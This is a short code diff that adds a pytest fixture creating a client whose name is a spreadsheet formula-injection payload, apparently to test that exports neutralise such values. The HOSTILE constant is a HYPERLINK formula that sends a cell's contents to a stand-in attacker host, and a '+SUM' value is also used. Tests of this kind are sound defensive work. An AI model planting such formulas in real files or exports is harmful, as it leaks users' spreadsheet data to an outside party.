@@ -73,3 +73,15 @@ def world(alice, bob, acme, reference, media, no_broker):  # noqa: F811
 
 def days_from_today(days: int) -> date:
     return geneva_today() + timedelta(days=days)
+
+
+HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+
+
+@pytest.fixture
+def hostile(bob, bobs_firm, reference, media, no_broker):  # noqa: F811
+    """A client named like a formula, with one draft and one filed application."""
+    from ..factories import ClientFactory
+
+    evil = ClientFactory(firm=bobs_firm, name=HOSTILE)
+    return a_draft(bob, client=evil, reference="+SUM(1;2)"), a_filed(bob, client=evil)
